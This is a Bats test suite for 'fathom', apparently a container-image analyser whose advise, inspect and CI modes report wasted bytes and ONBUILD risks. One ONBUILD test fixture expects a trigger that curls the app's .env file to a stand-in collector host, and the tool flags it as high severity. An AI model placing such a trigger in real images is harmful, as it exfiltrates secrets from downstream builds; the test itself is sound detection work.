#!/usr/bin/env bats
# fathom advise and fathom inspect: every finding on a fixture made for it
# (text against expected/, JSON with exact bytes), in the CI report, the
# export and the rules; and a real image built by podman from a Dockerfile
# in the usual wasteful style.
load helpers

ALL="deleted chmod cache temp context tools bigbase onbuild benign clean"

@test "advise: each finding on its fixture, in every format, as written by hand" {
	local fx
	for fx in $ALL; do
		in_all_formats "advice-$fx" "advice-$fx.advise" advise
	done
}

# finding_bytes FIXTURE: "id detail bytes" per finding, from the JSON
finding_bytes() {
	"$FATHOM" advise "$FIX/$1.oci-zstd.tar" --format json | python3 -c '
import json, sys
d = json.load(sys.stdin)
assert d["savings"] == sum(f["bytes"] for f in d["findings"]), d
for f in d["findings"]:
    print(f["id"], f["detail"] or "-", f["bytes"], ",".join(str(l["index"]) for l in f["layers"]))'
}

@test "advise --format json: the exact bytes of every finding, and their sum" {
	[ "$(finding_bytes advice-deleted)" = "deleted-later - 30000 0,1" ]
	[ "$(finding_bytes advice-chmod)" = "metadata-only-copy - 5100 0,1
deleted-later - 700 0,2" ]
	[ "$(finding_bytes advice-cache)" = "package-cache apt 5500 0
package-cache pip 1000 1
package-cache npm 200 1
package-cache go 80 1
package-cache apk 60 1" ]
	[ "$(finding_bytes advice-temp)" = "temp-files /tmp 4700 1
temp-files /var/tmp 1500 1
package-cache apt 500 0
deleted-later - 200 0,2" ]
	[ "$(finding_bytes advice-context)" = "build-context .git 9021 0
build-context node_modules 400 0
build-context tests and CI 190 0
build-context editor and OS files 6 0" ]
	[ "$(finding_bytes advice-tools)" = "build-tools gcc, make, headers, build-essential 31290 0" ]
	[ "$(finding_bytes advice-bigbase)" = "big-base debian:bookworm-slim, or a distroless image 0 0" ]
	[ "$(finding_bytes advice-onbuild)" = "onbuild - 0 " ]
	[ -z "$(finding_bytes advice-clean)" ]
	# temporary files: their own finding and sentence, their paths only
	"$FATHOM" advise "$FIX/advice-temp.oci-dir" --format json | python3 -c '
import json, sys
f = json.load(sys.stdin)["findings"][0]
assert f["id"] == "temp-files" and f["detail"] == "/tmp", f
assert f["paths"] == [{"path": "/tmp/app.tgz", "bytes": 4000}, {"path": "/tmp/build/out.o", "bytes": 700}], f["paths"]
assert f["advice"].startswith("Delete temporary files in the RUN instruction"), f["advice"]'
	# paths and commands
	"$FATHOM" advise "$FIX/advice-deleted.oci-dir" --format json | python3 -c '
import json, sys
f = json.load(sys.stdin)["findings"][0]
assert f["paths"] == [{"path": "/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_main_binary-amd64_Packages", "bytes": 30000}], f["paths"]
assert f["layers"][1]["command"] == "/bin/sh -c rm -rf /var/lib/apt/lists/*", f["layers"]
assert f["advice"].startswith("Clean up in the same RUN instruction")'
}

@test "no bytes count twice: hidden bytes are deleted-later or metadata-only, never both" {
	# every hidden byte of the chmod fixture is in exactly one finding
	"$FATHOM" --json - "$FIX/advice-chmod.oci-gzip.tar" | python3 -c '
import json, sys
f = json.load(sys.stdin)["fathom"]
hidden = f["reclaimableBytes"]
by = {}
for a in f["advice"]:
    by[a["id"]] = by.get(a["id"], 0) + a["bytes"]
assert by == {"metadata-only-copy": 5100, "deleted-later": 700}, by
assert sum(by.values()) == hidden == f["adviceSavingsBytes"], (by, hidden)'
	# a cache file that a later layer deletes is deleted-later, not package-cache
	"$FATHOM" advise "$FIX/advice-deleted.oci-gzip.tar" --format json | python3 -c '
import json, sys
assert [f["id"] for f in json.load(sys.stdin)["findings"]] == ["deleted-later"]'
}

@test "onbuild: every trigger verbatim; context copy with network tools is high severity" {
	"$FATHOM" advise "$FIX/advice-onbuild.oci-gzip.tar" --format json | python3 -c '
import json, sys
f = json.load(sys.stdin)["findings"][0]
assert f["id"] == "onbuild" and f["severity"] == "high", f
assert [(t["trigger"], t["risk"]) for t in f["triggers"]] == [
    ("COPY . /app", True), ("RUN make -C /app", False),
    ("RUN curl -s -X POST https://collector.example/upload --data-binary @/app/.env", True)], f'
	"$FATHOM" advise "$FIX/advice-benign.oci-gzip.tar" --format json | python3 -c '
import json, sys
f = json.load(sys.stdin)["findings"][0]
assert f["severity"] == "warning" and not any(t["risk"] for t in f["triggers"]), f'
}

@test "inspect: the config readable, ONBUILD flagged; JSON" {
	FORMATS="oci-none.tar oci-gzip.tar oci-zstd.tar oci-dir" in_all_formats advice-onbuild advice-onbuild.inspect inspect
	"$FATHOM" inspect "$FIX/advice-onbuild.docker-legacy.tar" | head -n 1 | grep -qx 'Image:        fathom-test:latest'
	"$FATHOM" inspect "$FIX/advice-onbuild.oci-gzip.tar" --format json | python3 -c '
import json, sys
d = json.load(sys.stdin)
assert d["platform"]["os"] == "linux" and d["layers"] == 1
assert d["config"]["OnBuild"][0] == "COPY . /app"
assert d["onBuildSeverity"] == "high" and d["onBuildTriggers"][2]["risk"] is True'
	run --separate-stderr "$FATHOM" inspect "$FIX/basic.oci-gzip.tar"
	[ "$status" -eq 0 ] && [[ "$output" != *OnBuild* ]]
}

@test "the CI report: an Advice section; onbuild warns by default, fails or is off when told" {
	run --separate-stderr "$FATHOM" --ci "$FIX/advice-onbuild.oci-gzip.tar"
	[ "$status" -eq 0 ]
	[[ "$output" == *"Advice: 0 B could be saved (fathom advise tells how)"* ]]
	[[ "$output" == *"  -             onbuild             3 triggers, high severity"* ]]
	[[ "$output" == *"  WARN  onbuild (3 ONBUILD triggers: ONBUILD triggers run in the build of every image FROM this one)"* ]]
	[[ "$output" == *"PASS [pass:2 warn:1 skip:4]"* ]]
	run --separate-stderr "$FATHOM" --ci --onbuild fail "$FIX/advice-onbuild.oci-gzip.tar"
	[ "$status" -eq 1 ]
	[[ "$output" == *"  FAIL  onbuild (3 ONBUILD triggers: "* ]]
	printf 'rules:\n  onbuild: off\n' >"$BATS_TEST_TMPDIR/ci.yaml"
	run --separate-stderr "$FATHOM" --ci --ci-config "$BATS_TEST_TMPDIR/ci.yaml" "$FIX/advice-onbuild.oci-gzip.tar"
	[ "$status" -eq 0 ]
	[[ "$output" == *"  SKIP  onbuild (disabled)"* ]]
	run --separate-stderr "$FATHOM" --ci --onbuild sometimes "$FIX/advice-onbuild.oci-gzip.tar"
	[ "$status" -eq 2 ]
	[[ "$stderr" == *"expected fail, warn or off"* ]]
	# no triggers: it passes
	run --separate-stderr "$FATHOM" --ci "$FIX/advice-clean.oci-gzip.tar"
	[[ "$output" == *"  PASS  onbuild (0 ONBUILD triggers)"* ]]
	[[ "$output" == *"Advice: (None)"* ]]
	# JUnit: a warning passes, with its reason
	"$FATHOM" --ci --ci-format junit "$FIX/advice-onbuild.oci-gzip.tar" | grep -q '<system-out>WARN: 3 ONBUILD triggers'
}

@test "highestAdviceSavings fails when the findings together save more" {
	run --separate-stderr "$FATHOM" --ci --highestAdviceSavings 10KB "$FIX/advice-deleted.oci-gzip.tar"
	[ "$status" -eq 1 ]
	[[ "$output" == *"  FAIL  highestAdviceSavings (30000 > 10000: following the advice would save too many bytes (fathom advise))"* ]]
	run --separate-stderr "$FATHOM" --ci --highestAdviceSavings 40KB --lowestEfficiency disabled --highestUserWastedPercent disabled "$FIX/advice-deleted.oci-gzip.tar"
	[ "$status" -eq 0 ]
	[[ "$output" == *"  PASS  highestAdviceSavings (30000 <= 40000)"* ]]
	"$FATHOM" --ci --ci-format json --highestAdviceSavings 10KB "$FIX/advice-deleted.oci-gzip.tar" | python3 -c '
import json, sys
d = json.load(sys.stdin)
r = {x["name"]: x for x in d["rules"]}
assert r["highestAdviceSavings"]["status"] == "FAIL" and r["highestAdviceSavings"]["value"] == 30000
assert d["adviceSavingsBytes"] == 30000 and d["advice"][0]["id"] == "deleted-later"'
	"$FATHOM" --ci --ci-format markdown "$FIX/advice-deleted.oci-gzip.tar" | grep -qx '| 30 kB | deleted-later | layers 0->1 |'
}

@test "a real image built by podman from a wasteful Dockerfile" {
	command -v podman >/dev/null || skip "podman is not installed"
	load servers
	local ctx=$BATS_TEST_TMPDIR/ctx img=$BATS_TEST_TMPDIR/wasteful.tar
	srv_podman_setup
	srv_debian_base
	mkdir -p "$ctx"
	echo 'print("hello")' >"$ctx/app.py"
	git -C "$ctx" init -q .
	git -C "$ctx" add app.py
	git -C "$ctx" -c user.email=t@example.org -c user.name=t commit -qm app
	cat >"$ctx/Dockerfile" <<-'EOF'
	FROM localhost/fathom/bookworm:minbase
	RUN apt-get update && apt-get install -y --no-install-recommends make
	RUN rm -rf /var/lib/apt/lists/*
	COPY . /app
	EOF
	podman build -q --network host -t localhost/wasteful:1 "$ctx" >"$BATS_TEST_TMPDIR/build.log" 2>&1 ||
		{ cat "$BATS_TEST_TMPDIR/build.log"; srv_stop_podman; return 1; }
	podman save -q -o "$img" localhost/wasteful:1
	srv_stop_podman
	"$FATHOM" advise "$img" --format json --top 0 >"$BATS_TEST_TMPDIR/advice.json"
	# the bytes of apt's lists that layer 1 wrote and layer 2 deleted, by fathom files
	"$FATHOM" files "$img" --layer 2 --changes --format json >"$BATS_TEST_TMPDIR/deleted.json"
	"$FATHOM" files "$img" --layer 1 --changes --format json >"$BATS_TEST_TMPDIR/written.json"
	python3 - "$BATS_TEST_TMPDIR/advice.json" "$BATS_TEST_TMPDIR/written.json" "$BATS_TEST_TMPDIR/deleted.json" <<-'EOF'
	import json, sys
	d = json.load(open(sys.argv[1]))
	written = {}
	for l in open(sys.argv[2]):
	    e = json.loads(l)
	    if e["type"] == "f" and e["status"] in "AM":
	        written[e["path"]] = e["size"]
	gone = {json.loads(l)["path"] for l in open(sys.argv[3]) if json.loads(l)["status"] == "R"}
	want = sum(s for p, s in written.items() if p in gone)
	f = {(x["id"], tuple(l["index"] for l in x["layers"])): x for x in d["findings"]}
	dl = f[("deleted-later", (1, 2))]
	assert dl["bytes"] == want and want > 1_000_000, (dl["bytes"], want)
	assert all(p["path"].startswith("/var/lib/apt/lists/") for p in dl["paths"]), dl["paths"]
	assert "rm -rf /var/lib/apt/lists/*" in dl["layers"][1]["command"], dl["layers"]
	ids = {x["id"]: x for x in d["findings"]}
	assert ids["build-context"]["detail"] == ".git" and ids["build-context"]["layers"][0]["index"] == 3
	assert any(p["path"] == "/app/.git/HEAD" for p in ids["build-context"]["paths"])
	assert "make" in ids["build-tools"]["detail"].split(", ")
	assert any(p["path"] == "/usr/bin/make" for p in ids["build-tools"]["paths"])
	apt = [x for x in d["findings"] if x["id"] == "package-cache" and x["detail"] == "apt"][0]
	assert any(p["path"].startswith("/var/cache/apt/archives/") and p["path"].endswith(".deb") for p in apt["paths"])
	assert ids["big-base"]["detail"] == "debian:bookworm-slim, or a distroless image"
	assert d["savings"] == sum(x["bytes"] for x in d["findings"])
	EOF
}
